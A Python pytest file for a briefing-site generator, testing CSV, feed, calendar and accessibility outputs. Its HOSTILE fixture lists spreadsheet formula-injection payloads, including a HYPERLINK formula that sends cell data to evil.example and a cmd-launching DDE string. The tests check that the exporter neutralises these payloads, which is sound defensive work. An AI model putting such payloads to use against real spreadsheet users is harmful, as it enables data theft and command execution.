"""Readers and machines, second pass (issue 16), each as its client sees it: a spreadsheet opening the CSV, feed
readers and calendars holding two briefings, assistive technology and validators reading the markup, a
reader of the timeline, the matrix, a quote page and the print version.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from icalendar import Calendar

from briefing.corpus import build_corpus
from briefing.model import COLLECTIONS, Briefing, Outlet, Person, Quote, Record, Round, Source
from briefing.outputs import calendar as ics
from briefing.outputs import csvexport, feeds, ids
from briefing.outputs.files import output_files
from briefing.pipeline import compile
from briefing.render import Urls
from tests.helpers import CONTESTED, FICTIONAL, ROOT, Element, content, copy_project, page

ATOM = "{http://www.w3.org/2005/Atom}"
ASSETS = ROOT / "briefing" / "assets"

# Quote texts that a spreadsheet would run as formulas (OWASP's list), and one that only looks like one.
HOSTILE = {
    "csv-hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"Click here")',
    "csv-plus": "+1+cmd|' /C calc'!A0",
    "csv-minus": "-2+3",
    "csv-at": "@SUM(1,1)",
    "csv-tab": "\t=1+1",
    "csv-cr": "\r=1+1",
    "csv-persian": "+۱۲ درصد غنی‌سازی",
}
HARMLESS = {"csv-plain": "We came to talk, not to = anything."}


# --- CSV --------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The files of a copy of the fictional briefing with quotes that start like formulas, from its YAML."""
    project = copy_project(FICTIONAL, tmp_path_factory.mktemp("csv-hostile") / "p")
    quotes = project / "data" / "quotes" / "2021-04.yml"
    added = "".join(
        f"\n- id: {name}\n  text: {json.dumps(text, ensure_ascii=False)}\n  speaker: ada-north\n  date: 2021-04-14\n"
        "  sources: [{source: gazette-2021-03-02, locator: \"para 9\"}]\n"
        for name, text in {**HOSTILE, **HARMLESS}.items())
    quotes.write_text(quotes.read_text(encoding="utf-8") + added, encoding="utf-8")
    result = compile(project / "data", project)
    assert result.corpus is not None, result.diagnostics
    return output_files(result.corpus, Urls())


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def test_a_cell_that_starts_like_a_formula_is_inert(hostile: dict[str, bytes]) -> None:
    rows = _rows(hostile["csv/quotes.csv"].decode("utf-8"))
    for name, text in HOSTILE.items():
        assert rows[name]["text"] == "'" + text, name  # shown as text; the apostrophe is not part of it
    assert rows["csv-plain"]["text"] == HARMLESS["csv-plain"]
    # Nothing else in any table starts like a formula.
    for collection in COLLECTIONS:
        for row in _rows(hostile[f"csv/{collection}.csv"].decode("utf-8")).values():
            assert not [v for v in row.values() if v.startswith(csvexport.FORMULA_STARTS)], (collection, row)


def test_briefing_json_keeps_the_text_exactly(hostile: dict[str, bytes]) -> None:
    data = json.loads(hostile["briefing.json"])
    quotes = {q["id"]: q["text"] for q in data["collections"]["quotes"]}
    for name, text in {**HOSTILE, **HARMLESS}.items():
        assert quotes[name] == text


def test_the_excel_copy_is_the_same_table_after_a_byte_order_mark(hostile: dict[str, bytes]) -> None:
    for collection in COLLECTIONS:
        plain, excel = hostile[f"csv/{collection}.csv"], hostile[f"csv-excel/{collection}.csv"]
        assert excel.startswith(b"\xef\xbb\xbf") and not plain.startswith(b"\xef\xbb\xbf")
        assert excel.decode("utf-8-sig") == plain.decode("utf-8")
    rows = _rows(hostile["csv-excel/quotes.csv"].decode("utf-8-sig"))
    assert rows["csv-persian"]["text"] == "'+۱۲ درصد غنی‌سازی"  # Persian, its ZWNJ kept
    assert next(iter(rows.values())).keys() >= {"id", "text"}  # the mark is not part of the first column's name


def test_the_data_page_lists_the_excel_copies_and_says_what_the_apostrophe_is(shipped_site: Path) -> None:
    data = content(shipped_site, "data/index.html")
    links = data.links()
    for collection in COLLECTIONS:
        assert f"../csv/{collection}.csv" in links and f"../csv-excel/{collection}.csv" in links
        assert (shipped_site / "csv-excel" / f"{collection}.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    text = " ".join(data.text().split())
    assert "is written with an apostrophe in front" in text and "byte order mark" in text
    # Typographic quotes survive in the Excel copy of the shipped briefing.
    excel = (shipped_site / "csv-excel" / "quotes.csv").read_bytes().decode("utf-8-sig")
    assert "’" in excel and excel == (shipped_site / "csv" / "quotes.csv").read_bytes().decode("utf-8")


# --- ids unique across briefings, stable across builds ----------------------------------------------------


def _ids(site: Path) -> tuple[set[str], set[str]]:
    """Every feed id (the feed's own and its entries', Atom and JSON Feed) and every calendar UID of a site."""
    root = ET.parse(site / "feed.xml").getroot()
    feed_ids = {root.findtext(f"{ATOM}id", "")} | {e.findtext(f"{ATOM}id", "") for e in root.iter(f"{ATOM}entry")}
    feed_ids |= {item["id"] for item in json.loads((site / "feed.json").read_text(encoding="utf-8"))["items"]}
    uids = {str(e["UID"]) for e in Calendar.from_ical((site / "rounds.ics").read_bytes()).walk("VEVENT")}
    return feed_ids, uids


def test_two_briefings_share_no_feed_id_and_no_uid(shipped_site: Path, fictional_site: Path,
                                                    contested_site: Path) -> None:
    sites = {"shipped": shipped_site, "fictional": fictional_site, "contested": contested_site}
    found = {name: _ids(site) for name, site in sites.items()}
    # The fictional and contested briefings both have a round-1, round-2 and round-3.
    assert {ids.entry_name(i) for i in found["fictional"][0]} & {ids.entry_name(i) for i in found["contested"][0]}
    for a in sites:
        for b in sites:
            if a < b:
                assert not found[a][0] & found[b][0], (a, b)
                assert not found[a][1] & found[b][1], (a, b)
    # Without site_url: the title's slug; with one (tests/contested), the site's host and path.
    assert "round-1@briefing/northland-southland-water-treaty-talks" in found["fictional"][1]
    assert "round-1@example.org/border-talks" in found["contested"][1]
    assert "tag:example.org,2024:border-talks:round-1" in found["contested"][0]
    assert "tag:example.org,2024:border-talks:feed.xml" in found["contested"][0]
    for feed_ids, _uids in found.values():
        assert all(re.fullmatch(r"tag:[a-z0-9.-]+,[0-9]{4}:[^\s:]+:[a-z0-9-]+(/[a-z0-9-]+)?|tag:[^\s]+:feed\.xml", i)
                   for i in feed_ids), feed_ids


@pytest.mark.parametrize("project", [ROOT, CONTESTED], ids=["shipped", "contested"])
def test_building_again_gives_the_same_ids(project: Path, shipped_site: Path, contested_site: Path) -> None:
    site = shipped_site if project == ROOT else contested_site
    site_url = None if project == ROOT else "https://example.org/border-talks/"
    first, second = (compile(project / "data", project) for _ in range(2))
    assert first.corpus is not None and second.corpus is not None
    files = [output_files(result.corpus, Urls(), site_url) for result in (first, second)]
    for name in ("feed.xml", "feed.json", "rounds.ics"):
        assert files[0][name] == files[1][name] == (site / name).read_bytes(), name


def _briefing(title: str) -> Briefing:
    return Briefing.model_validate({"title": title, "subject": "S", "as_of": "2026-02-01"})


def _records() -> list[Record]:
    return [
        Outlet.model_validate({"id": "o", "name": "Outlet"}),
        Source.model_validate({"id": "s", "title": "S", "outlet": "o", "published": "2026-01-20"}),
        Person.model_validate({"id": "p", "name": "P"}),
        Quote.model_validate({"id": "q", "speaker": "p", "date": "2025-12-30", "text": "Soon.", "sources": ["s"]}),
        # First announced for December 2025, then postponed into January: the id keeps the first year.
        Round.model_validate({"id": "round-1", "number": "1", "status": "held", "start": "2026-01-12",
                              "schedule": [{"announced": "2025-11-02", "status": "scheduled", "start": "2025-12-15",
                                            "sources": ["s"]},
                                           {"announced": "2025-12-10", "status": "postponed", "sources": ["s"]}],
                              "sources": ["s"]}),
    ]


def test_ids_come_from_the_title_or_the_site_and_the_record_date() -> None:
    water = build_corpus(_briefing("Water talks"), _records())
    river = build_corpus(_briefing("River talks"), _records())
    for site_url in (None, "https://example.org/water/"):
        entries = {ids.entry_name(e.id): e.id for e in feeds.feed_entries(water, site_url)}
        prefix = "tag:example.org,{}:water:" if site_url else "tag:briefing,{}:water-talks:"
        assert entries == {"q": prefix.format(2025) + "q", "round-1": prefix.format(2025) + "round-1",
                           "round-1/postponed-2025-12-10": prefix.format(2025) + "round-1/postponed-2025-12-10"}
    assert not {e.id for e in feeds.feed_entries(water)} & {e.id for e in feeds.feed_entries(river)}
    # Two sites on one host are two briefings; the port and the case of the host do not make a third.
    assert ({e.id for e in feeds.feed_entries(water, "https://example.org/water/")}
            .isdisjoint(e.id for e in feeds.feed_entries(water, "https://example.org/river/")))
    assert (ids.identity(water, "https://EXAMPLE.org:8443/water") == ids.identity(water, "https://example.org/water/")
            == ids.Identity("example.org", "water"))
    cal = Calendar.from_ical(ics.rounds_ics(water, Urls()))
    assert [str(e["UID"]) for e in cal.walk("VEVENT")] == ["round-1@briefing/water-talks"]
    root = ET.fromstring(feeds.atom_feed(water, Urls()))
    assert root.findtext(f"{ATOM}id") == "tag:briefing,2025:water-talks:feed.xml"


def test_a_title_without_latin_letters_still_gives_an_id_of_its_own() -> None:
    assert ids.slug("مذاکرات ایران و آمریکا") == "مذاکرات-ایران-و-آمریکا"
    assert ids.slug("Négociations à Genève, 2026") == "negociations-a-geneve-2026"
    corpus = build_corpus(_briefing("مذاکرات ایران و آمریکا"), _records())
    [entry, *_] = feeds.feed_entries(corpus)
    assert entry.id.startswith("tag:briefing,2025:%D9%85%D8%B0") and entry.id.isascii()


# --- markup for assistive technology and validators --------------------------------------------------------


def _generated_pages(site: Path) -> list[Path]:
    return sorted(p for name in COLLECTIONS for p in (site / name).glob("*/index.html"))


def test_record_pages_have_one_h1_and_no_nested_article(shipped_site: Path, contested_site: Path) -> None:
    for site in (shipped_site, contested_site):
        for html_file in _generated_pages(site):
            main = content(site, html_file.relative_to(site).as_posix())
            assert not main.find_all("article")[1:], html_file  # only Material's own
            assert len(main.find_all("h1")) == 1, html_file


def test_a_quote_page_does_not_link_to_itself(shipped_site: Path, contested_site: Path) -> None:
    quote = content(shipped_site, "quotes/albusaidi-good-progress/index.html")
    card = quote.find("figure", cls="br-quote")
    assert "./" not in card.links() and not card.find_all("span", cls="br-permalink")
    # Elsewhere the card links to the quote's page.
    speaker = content(shipped_site, "people/badr-albusaidi/index.html").find("figure", cls="br-quote")
    assert speaker.find("span", cls="br-permalink").links() == ["../../quotes/albusaidi-good-progress/"]
    # A wording's page does not link to itself from the card it is shown in either.
    wording = content(contested_site, "quotes/wendel-zero-dams-wire/index.html")
    assert "./" not in wording.links()


def _caption_meta(card: Element) -> str:
    """The caption's meta line as printed: without the quote-page link, which print.css hides."""
    meta = card.find("figcaption").find("span", cls="br-meta")
    hidden = " ".join(x.text() for x in meta.find_all("span", cls="br-permalink"))
    return " ".join(meta.text().replace(hidden, "").split())


def test_the_print_page_prints_the_timeline_once_and_no_dangling_separator(shipped_site: Path) -> None:
    printed = content(shipped_site, "print/index.html")
    assert len(printed.find_all("svg", cls="br-tlfig")) == 1
    assert printed.find_all("ol", cls="br-timeline") == []  # the rounds and events below tell each entry
    cards = printed.find_all("figure", cls="br-quote")
    assert cards and all(not _caption_meta(card).endswith("·") for card in cards)
    assert all(card.find("span", cls="br-permalink").text() == "· quote page" for card in cards)
    assert ".br-permalink, .br-sort::after { display: none; }" in (ASSETS / "print.css").read_text(encoding="utf-8")


def test_print_css_changes_nothing_on_screen() -> None:
    css = re.sub(r"/\*.*?\*/", "", (ASSETS / "print.css").read_text(encoding="utf-8"), flags=re.S).strip()
    assert css.startswith("@media print {") and css.endswith("}")
    # One block: the brace that closes the @media rule is the last character.
    depth = 0
    for index, char in enumerate(css):
        depth += {"{": 1, "}": -1}.get(char, 0)
        if depth == 0 and char == "}":
            assert index == len(css) - 1
            break


def test_matrix_cells_carry_their_party_for_the_phone_layout(shipped_site: Path) -> None:
    table = content(shipped_site, "matrix/index.html").find("table", cls="br-matrix")
    parties = [th.text() for th in table.find("thead").find_all("th")][1:]
    for row in table.find("tbody").find_all("tr"):
        assert [td.attrs["data-party"] for td in row.find_all("td")] == parties


# --- the timeline --------------------------------------------------------------------------------------------


def test_each_timeline_entry_says_what_happened_with_its_sources(shipped_site: Path, contested_site: Path) -> None:
    items = content(shipped_site, "timeline/index.html").find("ol", cls="br-timeline").find_all("li")
    text = {" ".join(li.find("p", cls="br-tl-title").text().split()): li for li in items}
    second = text["Round Second round, Geneva held"].find("div", cls="br-tl-text")
    assert " ".join(second.find("p").text().split()).startswith("Iran and the United States held their second round")
    assert second.find("span", cls="br-cites").links()[0] == "../sources/tehran-times-2026-02-17/"
    event = text["Event U.S. and Israeli strikes on Iran"].find("div", cls="br-tl-text")
    assert event.find("span", cls="br-cites") is not None
    # Postponements and cancellations stay, at the day announced, with who announced them and the source.
    changes = [li for li in content(contested_site, "timeline/index.html").find("ol", cls="br-timeline").find_all("li")
               if "br-tl-change" in li.classes]
    assert [" ".join(li.find("div", cls="br-tl-text").text().split()) for li in changes] == [
        "Announced by Lakeland: Postponed “for logistical reasons”. [Lakeland Times, 2 April 2024]",
        "Announced by Lara Lake: The round “will not now take place”. [Lakeland Times, 19 May 2024]"]


def test_the_timeline_figure_does_not_repeat_the_list(shipped_site: Path) -> None:
    html = (shipped_site / "timeline/index.html").read_text(encoding="utf-8")
    [svg] = re.findall(r'<svg class="br-tlfig".*?</svg>', html, re.S)
    desc = ET.fromstring(svg).findtext("{http://www.w3.org/2000/svg}desc", "")
    titles = [" ".join(a.text().split()) for li in content(shipped_site, "timeline/index.html").find(
        "ol", cls="br-timeline").find_all("li") for a in li.find("p", cls="br-tl-title").find_all("a")]
    assert titles and not [t for t in titles if t in desc]
    assert "Each entry is written out in the text of this page." in desc
    assert page(shipped_site, "timeline/index.html").find("svg", cls="br-tlfig").attrs["role"] == "img"
